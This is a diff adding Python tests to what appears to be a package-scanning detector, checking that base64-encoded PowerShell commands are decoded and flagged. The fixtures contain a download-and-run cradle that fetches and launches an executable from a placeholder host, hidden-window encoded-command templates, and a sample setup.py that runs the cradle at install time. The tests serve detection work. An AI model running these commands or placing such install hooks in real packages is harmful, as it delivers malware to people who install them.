@@ -96,6 +96,56 @@ def test_tokens_reach_the_code_token_bag() -> None:
     assert not any(t.startswith(("decoded:", "script:", "infra:")) for t in plain.split())
 
 
+def _ps_encoded(command: str) -> str:
+    return base64.b64encode(command.encode("utf-16-le")).decode()
+
+
+CRADLE = "Invoke-WebRequest -Uri 'https://files.example.net/a.exe' -OutFile a.exe; Start-Process a.exe"
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "powershell -windowstyle hidden -encodedcommand {}",
+        "powershell.exe -NoP -W Hidden -enc {}",
+        "powershell -ec {}",
+        'powershell -EncodedCommand "{}"',
+        "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))",
+    ],
+)
+def test_encoded_powershell_commands_are_decoded(template: str) -> None:
+    tokens = set(decoded_tokens(template.format(_ps_encoded(CRADLE))))
+    assert {"decoded:download_run", "decoded:url"} <= tokens
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "python -m pip install -e SGVsbG8sIHdvcmxkIGFnYWluIGFuZCBhZ2Fpbg==",  # an -e option, no command
+        "powershell -enc " + _ps_encoded("Write-Output 'hello world from a harmless script'"),
+        "git log -e aGVsbG8gdGhlcmUgZ2VuZXJhbCBrZW5vYmk=",
+    ],
+)
+def test_embedded_payloads_that_say_nothing_give_no_tokens(value: str) -> None:
+    assert decoded_tokens(value) == []
+
+
+def test_encoded_download_in_setup_fires_the_download_detector_at_the_literal() -> None:
+    payload = _ps_encoded(CRADLE)
+    setup = (
+        "import subprocess\nfrom setuptools import setup\n"
+        f"subprocess.Popen('powershell -w hidden -encodedcommand {payload}')\n"
+        "setup(name='demo', version='0.1')\n"
+    )
+    f = extract_features(make_archive({"setup.py": setup}))
+    assert f.values["code.download_exec"] == 1.0
+    assert f.values["install.setup_suspicious"] == 1.0
+    hits = [e for e in f.evidence if e.feature == "code.download_exec"]
+    assert hits and hits[0].file is not None and hits[0].file.endswith("setup.py") and hits[0].line == 3
+    harmless = setup.replace(payload, _ps_encoded("Write-Output 'build step finished fine'"))
+    assert extract_features(make_archive({"setup.py": harmless})).values["code.download_exec"] == 0.0
+
+
 def test_script_kinds_are_those_of_a_hint_test_per_pattern() -> None:
     """One pass for every hint finds the kinds a substring test per hint and pattern finds."""
     import random
